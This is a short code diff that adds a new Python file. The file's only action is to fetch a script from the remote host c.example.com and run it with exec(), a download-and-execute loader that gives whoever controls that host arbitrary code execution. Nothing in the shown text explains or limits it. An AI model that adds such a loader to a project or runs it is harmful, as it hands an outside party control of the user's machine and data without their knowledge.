@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get('http://c.example.com/a.py').text)
